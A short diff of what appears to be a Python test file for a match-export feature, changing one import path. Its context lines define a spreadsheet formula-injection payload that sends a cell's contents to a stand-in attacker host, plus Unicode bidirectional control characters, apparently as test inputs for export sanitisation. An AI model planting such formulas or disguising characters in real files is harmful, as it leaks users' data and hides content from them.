@@ -17,7 +17,7 @@ from hub.export.files import export_match
 from hub.export.history import Query, search
 from hub.store.database import Store
 from hub.vocab.checks import RefereeInputError
-from tests.hub.test_damage import make_hub
+from tests.hub.store.test_damage import make_hub
 
 FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ivan\")"
 RLO, PDF, LRI = "\u202e", "\u202c", "\u2066"
